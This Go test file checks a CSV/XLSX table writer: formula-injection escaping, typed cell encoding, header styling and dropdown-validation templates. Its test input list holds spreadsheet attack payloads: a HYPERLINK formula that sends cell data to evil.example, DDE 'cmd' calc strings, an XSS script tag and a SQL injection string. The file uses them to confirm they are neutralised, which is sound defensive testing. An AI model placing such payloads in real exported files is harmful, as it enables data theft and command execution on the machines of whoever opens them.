package tabular

import (
	"bytes"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

var hostile = []string{
	`=HYPERLINK("http://evil.example/?q="&A1,"点击查看")`,
	`<script>alert("xss")</script>`,
	`'; DROP TABLE x;--`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"  =1+1",
}

type stringer struct{}

func (stringer) String() string { return "=STRINGER()" }

// writeTable writes a header, the hostile strings and a typed row.
func writeTable(t *testing.T, format Format) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewWriter(&buf, format)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.WriteHeader([]string{"序号", "内容", "=表头", "备注"}); err != nil {
		t.Fatal(err)
	}
	for i, s := range hostile {
		if err := w.WriteStrings([]string{fmt.Sprint(i + 1), s}); err != nil {
			t.Fatal(err)
		}
	}
	typed := []any{
		42, -12.5, "-12.5", "中文\n第二行", true, nil, int64(110101199001011234),
		time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC), time.Date(2024, 3, 1, 8, 30, 0, 0, time.UTC),
		stringer{}, []byte("=bytes"), uint8(7), float32(0.5),
		excelize.Cell{Formula: "1+1"},
	}
	if err := w.WriteRow(typed); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if format == XLSX && buf.Len() == 0 {
		t.Fatal("nothing written")
	}
	return buf.Bytes()
}

func TestCSVWriterRoundTrip(t *testing.T) {
	data := writeTable(t, CSV)
	if !bytes.HasPrefix(data, []byte("\xef\xbb\xbf序号,内容,'=表头,备注\r\n")) {
		t.Fatalf("unexpected start: %q", data[:min(len(data), 60)])
	}
	r, rows := readAll(t, data, "out.csv", Options{})
	if r.Encoding() != "UTF-8 BOM" {
		t.Errorf("encoding = %q", r.Encoding())
	}
	if len(rows) != len(hostile)+2 {
		t.Fatalf("rows = %d", len(rows))
	}
	for i, s := range hostile {
		got := rows[i+1].Cell(1)
		want := cleanCell(neutralise(s)) // the reader turns the tab into a space
		if got != want {
			t.Errorf("cell %d = %q, want %q", i, got, want)
		}
		if IsFormula(got) {
			t.Errorf("cell %d still a formula after neutralising: %q", i, got)
		}
	}
	wantTyped := []string{
		"42", "-12.5", "-12.5", "中文\n第二行", "TRUE", "", "110101199001011234",
		"2024-03-01", "2024-03-01 08:30:00", "'=STRINGER()", "'=bytes", "7", "0.5",
		"{0 1+1 <nil>}", // never a formula
	}
	if got := rows[len(rows)-1].Cells; !reflect.DeepEqual(got, wantTyped) {
		t.Errorf("typed row = %q\nwant        %q", got, wantTyped)
	}
}

func TestXLSXWriterRoundTrip(t *testing.T) {
	data := writeTable(t, XLSX)
	_, rows := readAll(t, data, "out.xlsx", Options{})
	if len(rows) != len(hostile)+2 {
		t.Fatalf("rows = %d", len(rows))
	}
	if got := rows[0].Cells; !reflect.DeepEqual(got, []string{"序号", "内容", "=表头", "备注"}) {
		t.Errorf("header = %q", got)
	}
	for i, s := range hostile {
		row := rows[i+1]
		if got, want := row.Cell(1), strings.TrimSpace(s); got != want {
			t.Errorf("cell %d = %q, want %q", i, got, want)
		}
		if row.Formulas != nil {
			t.Errorf("row %d has formula cells %v", row.Num, row.Formulas)
		}
	}
	last := rows[len(rows)-1]
	wantTyped := []string{
		"42", "-12.5", "-12.5", "中文\n第二行", "TRUE", "", "110101199001011234",
		"2024-03-01", "2024-03-01 08:30:00", "=STRINGER()", "=bytes", "7", "0.5",
	}
	if got := last.Cells[:len(wantTyped)]; !reflect.DeepEqual(got, wantTyped) || last.Formulas != nil {
		t.Errorf("typed row = %q (formulas %v)\nwant        %q", got, last.Formulas, wantTyped)
	}

	// Inspect the workbook itself: no formulas, bold frozen header, widths.
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for row := 1; row <= len(rows); row++ {
		for col := 1; col <= 14; col++ {
			cell, _ := excelize.CoordinatesToCellName(col, row)
			if formula, _ := f.GetCellFormula(xlsxSheet, cell); formula != "" {
				t.Errorf("%s has formula %q", cell, formula)
			}
		}
	}
	// Numbers stay numbers (no type attribute); strings, including the
	// 18-digit ID that Excel would otherwise round, are inline strings.
	for cell, want := range map[string]excelize.CellType{
		"A10": excelize.CellTypeUnset, "B10": excelize.CellTypeUnset,
		"C10": excelize.CellTypeInlineString, "G10": excelize.CellTypeInlineString,
	} {
		if got, _ := f.GetCellType(xlsxSheet, cell); got != want {
			t.Errorf("%s type = %v, want %v", cell, got, want)
		}
	}
	panes, err := f.GetPanes(xlsxSheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes = %+v, %v", panes, err)
	}
	styleID, _ := f.GetCellStyle(xlsxSheet, "B1")
	if style, err := f.GetStyle(styleID); err != nil || style.Font == nil || !style.Font.Bold {
		t.Errorf("header not bold: %+v %v", style, err)
	}
	if w, _ := f.GetColWidth(xlsxSheet, "A"); w != 10 {
		t.Errorf("column A width = %v", w)
	}
}

func TestWriterErrors(t *testing.T) {
	if _, err := NewWriter(&bytes.Buffer{}, "xls"); err == nil {
		t.Error("xls output accepted")
	}
	for _, format := range []Format{CSV, XLSX} {
		var buf bytes.Buffer
		w, err := NewWriter(&buf, format)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.WriteStrings([]string{"a"}); err != nil {
			t.Fatal(err)
		}
		if err := w.WriteHeader([]string{"h"}); err == nil {
			t.Errorf("%s: late header accepted", format)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
	// An empty CSV table is just the BOM.
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, CSV)
	if err := w.Close(); err != nil || buf.String() != "\xef\xbb\xbf" {
		t.Errorf("empty csv = %q, %v", buf.String(), err)
	}
}

func TestTemplate(t *testing.T) {
	var long []string
	for i := range 80 {
		long = append(long, fmt.Sprintf("北京市第%d区", i+1))
	}
	sheets := []TemplateSheet{
		{Name: "人员信息", Columns: []TemplateColumn{
			{Header: "姓名", Note: "与身份证一致", Required: true},
			{Header: "性别", Required: true, Values: []string{"男", "女"}},
			{Header: "身份证号", Note: "18 位", Required: true},
			{Header: "所属区", Values: long},
			{Header: "备注", Values: []string{"含,逗号", "普通"}},
		}},
		{Name: "家庭成员", Columns: []TemplateColumn{
			{Header: "关系", Values: []string{"配偶", "子女", "父母"}, Width: 30},
		}},
	}
	var buf bytes.Buffer
	if err := Template(&buf, sheets); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()

	if got, want := f.GetSheetList(), []string{"人员信息", "家庭成员", ValuesSheet}; !reflect.DeepEqual(got, want) {
		t.Errorf("sheets = %v, want %v", got, want)
	}
	if visible, _ := f.GetSheetVisible(ValuesSheet); visible {
		t.Error("values sheet is visible")
	}
	dvs, err := f.GetDataValidations("人员信息")
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, dv := range dvs {
		got[dv.Sqref] = dv.Formula1
		if dv.Type != "list" || !dv.ShowErrorMessage {
			t.Errorf("%s: type %q, error message %v", dv.Sqref, dv.Type, dv.ShowErrorMessage)
		}
	}
	want := map[string]string{
		"B2:B1048576": `"男,女"`,
		"D2:D1048576": "'_values'!$A$1:$A$80",
		"E2:E1048576": "'_values'!$B$1:$B$2",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("validations = %q, want %q", got, want)
	}
	if v, _ := f.GetCellValue(ValuesSheet, "A80"); v != "北京市第80区" {
		t.Errorf("values A80 = %q", v)
	}
	if v, _ := f.GetCellValue(ValuesSheet, "B1"); v != "含,逗号" {
		t.Errorf("values B1 = %q", v)
	}
	dvs, _ = f.GetDataValidations("家庭成员")
	if len(dvs) != 1 || dvs[0].Formula1 != `"配偶,子女,父母"` {
		t.Errorf("second sheet validations = %+v", dvs)
	}
	if w, _ := f.GetColWidth("家庭成员", "A"); w != 30 {
		t.Errorf("width = %v", w)
	}

	comments, err := f.GetComments("人员信息")
	if err != nil || len(comments) != 5 {
		t.Fatalf("comments = %+v, %v", comments, err)
	}
	var text strings.Builder
	for _, run := range comments[0].Paragraph {
		text.WriteString(run.Text)
	}
	if !strings.Contains(text.String(), "【必填】") || !strings.Contains(text.String(), "与身份证一致") {
		t.Errorf("A1 comment = %q", text.String())
	}
	styleID, _ := f.GetCellStyle("人员信息", "A1")
	if style, _ := f.GetStyle(styleID); style.Font == nil || !style.Font.Bold || style.Font.Color != "C00000" {
		t.Errorf("required header style = %+v", style.Font)
	}
	if panes, _ := f.GetPanes("人员信息"); !panes.Freeze {
		t.Error("header not frozen")
	}

	// The template reads back as a header-only table.
	_, rows := readAll(t, buf.Bytes(), "模板.xlsx", Options{})
	if len(rows) != 1 || !reflect.DeepEqual(rows[0].Cells, []string{"姓名", "性别", "身份证号", "所属区", "备注"}) {
		t.Errorf("template rows = %+v", rows)
	}

	if err := Template(&bytes.Buffer{}, nil); err == nil {
		t.Error("empty template accepted")
	}
	if err := Template(&bytes.Buffer{}, []TemplateSheet{{Name: ValuesSheet, Columns: sheets[1].Columns}}); err == nil {
		t.Error("reserved sheet name accepted")
	}
	if err := Template(&bytes.Buffer{}, []TemplateSheet{{Name: "bad/name", Columns: sheets[1].Columns}}); err == nil {
		t.Error("invalid sheet name accepted")
	}
}
